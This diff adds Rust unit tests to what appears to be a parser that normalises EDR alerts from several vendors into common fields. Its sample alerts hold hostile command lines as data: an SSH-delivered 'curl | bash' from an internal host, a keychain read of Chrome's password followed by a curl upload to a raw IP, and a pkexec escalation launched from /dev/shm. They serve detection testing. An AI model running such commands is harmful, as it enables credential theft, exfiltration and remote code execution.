@@ -6954,5 +6954,56 @@ mod tests {
         let sp = json!({"preview": false, "offset": 0, "result": {"_raw": xml, "host": "FS-3", "sourcetype": "XmlWinEventLog", "EventCode": "4688"}});
         let a = from_json(sp, "x").unwrap();
         assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
+        // Santa: an unsigned program (no signature, no code-signing flags).
+        let sa = json!({"machine_id": "M1", "event_time": "2026-01-28T20:41:55Z", "execution": {
+            "instigator": {"id": {"pid": 1}, "executable": {"path": "/bin/zsh"}, "effective_user": {"uid": 501, "name": "ah"}},
+            "target": {"id": {"pid": 2}, "executable": {"path": "/Users/ah/Downloads/F/fi"}, "cs_flags": 0, "is_platform_binary": false, "effective_user": {"uid": 501, "name": "ah"}},
+            "args": ["./fi", "--silent"], "decision": "DECISION_ALLOW", "quarantine_url": "https://dl.example.net/f.zip"}});
+        let a = from_json(sa, "x").unwrap();
+        assert_eq!(
+            a.doc.pointer("/process/code_signature/exists"),
+            Some(&json!(false))
+        );
+        assert_eq!(get(&a, "file.origin_url"), "https://dl.example.net/f.zip");
+        // CrowdStrike Event Streams: an empty command line leaves the program's path.
+        let cs = json!({"metadata": {"eventType": "EppDetectionSummaryEvent"}, "event": {"Hostname": "h1", "Name": "PrivilegeEscalationPkexec",
+            "FileName": "pkexec", "FilePath": "/usr/bin", "CommandLine": "", "UserName": "root",
+            "ParentImageFileName": "/dev/shm/.x/pk", "ParentCommandLine": "./pk"}});
+        let a = from_json(cs, "x").unwrap();
+        assert_eq!(get(&a, "process.executable"), "/usr/bin/pkexec");
+        assert_eq!(get(&a, "process.parent.executable"), "/dev/shm/.x/pk");
+        // Cybereason: `childProcesses` naming no parent are the root cause's children.
+        let cy = json!({"guid": "11.4", "detectionTypes": ["Lateral movement"], "machines": [{"displayName": "m1", "osType": "OS_X"}],
+            "rootCauseElements": [{"elementType": "Process", "name": "python3.11", "commandLine": "python3.11 /Users/Shared/.agent/.s.py", "parentProcess": "launchd"}],
+            "childProcesses": [{"name": "sh", "commandLine": "/bin/sh -c ssh -o StrictHostKeyChecking=no u@10.0.0.5 'curl -s http://10.0.0.9/s | bash'"}]});
+        let a = from_json(cy, "x").unwrap();
+        assert!(get(&a, "process.command_line").starts_with("/bin/sh -c ssh"));
+        assert!(get(&a, "process.parent.command_line").contains(".agent/.s.py"));
+        // Uptycs: `child_commands` follow the process's command line.
+        let up = json!({"id": "u1", "assetId": "a1", "code": "X", "description": "d", "key": "process_events", "value": "/bin/bash /private/tmp/.s/c.sh",
+            "upt_asset": {"host_name": "m1", "os": "Darwin"},
+            "metadata": {"pid": 1, "path": "/bin/bash", "cmdline": "/bin/bash /private/tmp/.s/c.sh", "username": "ab",
+                "child_commands": ["security find-generic-password -wa Chrome", "curl -s -F f=@/private/tmp/.s/o.zip http://1.2.3.4/upload"]}});
+        let a = from_json(up, "x").unwrap();
+        assert!(get(&a, "process.command_line").contains("find-generic-password"));
+        // Sophos XDR detections: `raw` as a list, the grandparent as `gparent_…`, the working
+        // directory.
+        let sx = json!({"id": "d1", "detectionRule": "R", "device": {"entity": "WS-1"}, "time": "2025-12-15T13:02:48Z",
+            "raw": [{"meta_hostname": "WS-1", "path": "C:\\Windows\\SysWOW64\\cscript.exe", "cmd_line": "cscript.exe //B ..\\..\\Tools\\a.vbs",
+                "cwd": "C:\\Program Files (x86)\\Tanium\\Tanium Client\\Downloads\\Action_1\\", "username": "NT AUTHORITY\\SYSTEM",
+                "parent_path": "C:\\Windows\\SysWOW64\\cmd.exe", "parent_cmd_line": "cmd.exe /d /c cscript.exe //B ..\\..\\Tools\\a.vbs",
+                "gparent_path": "C:\\Program Files (x86)\\Tanium\\Tanium Client\\TaniumClient.exe", "gparent_cmd_line": "TaniumClient.exe --service"}]});
+        let a = from_json(sx, "x").unwrap();
+        assert!(get(&a, "process.parent.parent.executable").ends_with("TaniumClient.exe"));
+        assert!(get(&a, "process.working_directory").ends_with("Action_1\\"));
+        // A `-c` script holding single quotes is shown in double quotes, not spliced.
+        assert_eq!(
+            edr::shell_join(&["sh", "-c", "'/usr/bin/wkhtmltopdf' '--quiet' '/tmp/a.html'"]),
+            "sh -c \"'/usr/bin/wkhtmltopdf' '--quiet' '/tmp/a.html'\""
+        );
+        assert_eq!(
+            edr::shell_join(&["sh", "-c", "echo '$x'"]),
+            "sh -c 'echo '\\''$x'\\'''"
+        );
     }
 }
